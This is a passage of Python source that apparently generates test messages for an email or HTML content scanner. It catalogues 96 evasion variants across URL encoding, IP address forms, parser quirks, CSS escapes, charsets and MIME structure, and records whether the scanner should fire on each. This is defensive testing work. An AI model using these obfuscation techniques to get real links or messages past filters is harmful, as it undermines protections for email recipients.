    mark = lambda s: re.sub(r"[{}\\\\]", r"\\\g<0>", s).replace("\n", "\\par ")
    rtf = "{\\rtf1\\ansi\\fromhtml1 " + "".join("{\\*\\htmltag64 " + mark(s) + "}" if s.startswith("<") else mark(s) for s in re.split(r"(<[^>]*>)", text)) + "}"
    data = rtf.encode()
    return winmail(case, 0x1009, struct.pack("<III", len(data) + 12, len(data), 0x414C454D) + b"\0\0\0\0" + data)

@message("ev-pgp-inline-html", bases=("img",))
def _(case, text):
    armor = "<div>-----BEGIN PGP MESSAGE-----<br><br>hQEMA0000000000000AQf/<br>=abcd<br>-----END PGP MESSAGE-----</div>\n"
    return crlf(headers(case) + related(html_part(case, text.replace("<p>Kind", armor + "<p>Kind"))))


TABLE_OF = {}
for _q, _names in {
        "Q1": "entity-dec entity-hex-pad entity-named tab-newline lead-ctrl proto-relative backslash slashes case userinfo fragment-proxy "
              "open-redirect nested-encoding unicode-host trailing-dot ip-forms port-path-token big-image-token 2x2 size-lie no-size repeat "
              "spacer-name attr-dup attr-noquote attr-nul namespaced-attr",
        "Q2": "image-alias unclosed-tag unclosed-attr nested-comment cond-comment cdata-pi rawtext foreign-content select-table template "
              "noscript-flag base-late head-injection text-mode-html huge-depth 1mb-tail",
        "Q3": "css-escape css-escape-mixed css-double-escape css-comment-split css-unclosed-url css-decoy-allow css-data-then-break css-quote-amp "
              "css-string-url css-var-indirect css-important-dup css-charset css-cdo-cdc css-selector-never",
        "Q4": "utf7 utf16-32 iso2022 hz-gbk ebcdic-rare charset-conflict overlong b64-junk b64-lines qp-bad uuencode-yenc cte-conflict "
              "cte-multipart 8bit-binary",
        "Q5": "dup-content-type dup-boundary-param boundary-nested boundary-odd boundary-missing boundary-charset header-obs-fold "
              "header-nocolon lf-only ct-comment ct-missing mime-version filename-rfc2231 filename-encodedword filename-dup filename-tricks "
              "type-vs-magic message-in-message partial multipart-related-root alternative-order smime-wrapped compressed-data tnef-wrapped "
              "pgp-inline-html"}.items():
    for _n in _names.split():
        TABLE_OF["ev-" + _n] = _q
assert len(TABLE_OF) == 96


def swap_case(text):
    """Tag and attribute names in mixed case."""
    mixed = lambda s: "".join(c.upper() if i % 2 else c for i, c in enumerate(s))
    return re.sub(r"<(/?)(\w+)([^>]*)>", lambda m: "<" + m.group(1) + mixed(m.group(2))
                  + re.sub(r"(\s)([a-z]+)=", lambda a: a.group(1) + mixed(a.group(2)) + "=", m.group(3)) + ">", text)


def place(case, parts):
    """Fill the names that only evasions use, and write the message."""
    number = int.from_bytes(bytes(int(n) for n in case.address.split(".")), "big")
    octets = case.address.split(".")
    names = {"$DWORD": str(number), "$HEX": ".".join(hex(int(n)) for n in octets), "$OCTAL": ".".join("0%o" % int(n) for n in octets)}
    for section, text in parts.items():
        for name, value in names.items():
            text = text.replace(name, value)
        text = re.sub(r"\$UTF16\((.*?)\)", lambda m: base64.b64encode(table.fill(m.group(1), case).encode("utf-16-le")).decode(), text)
        case.parts[section] = text
    case.message = table.message(case)
    return case


def new(name, base, scan, fires, words, number):
    label = name.replace("/", "-") + ("--" + base if base else "")
    words = set(words.split())
    if not fires:
        words.add("never")
    address = f"198.51.{110 + number // 250}.{1 + number % 250}"
    return Case(scan, label, TABLE_OF[name.split("/")[0]], tuple(m for m in table.MODES if m in fires.split()), words, {}, address=address)


def all_cases():
    out = []
    for name, bases, fires, words, change in URL_RULES:
        for base in bases:
            scan, parts = BASE[base]
            scan += OTHER_NAMES.get(name.split("/")[0], "")
            case = new(name, base, scan, fires, words, len(out))
            text = change(table.fill("$URL", case))
            parts = {section: part.format(u=text) for section, part in parts.items()}
            if name == "ev-case":
                parts = {section: part if section == "style" else swap_case(part) for section, part in parts.items()}
            out.append(place(case, parts))
    for name, scan, fires, words, parts in MARKUP_RULES:
        out.append(place(new(name, "", scan, fires, words, len(out)), parts))
    for name, reading, bases, fires, words, write in MESSAGE_RULES:
        for base in bases:
            scan, parts = BASE[base]
            case = new(name, base, "" if "unscanned" in words.split() else scan, fires, words, len(out))
            case.parts = {section: part.format(u=table.fill("$URL", case)) for section, part in parts.items()}
            case.reading = reading
            made = write(case, html(case))
            case.message = bytes(made) if isinstance(made, Raw) else crlf(made)
            out.append(case)
    written = {name.split("/")[0] for rules in (URL_RULES, MARKUP_RULES, MESSAGE_RULES) for name, *_ in rules}
    assert written == set(TABLE_OF), written ^ set(TABLE_OF)
    return out
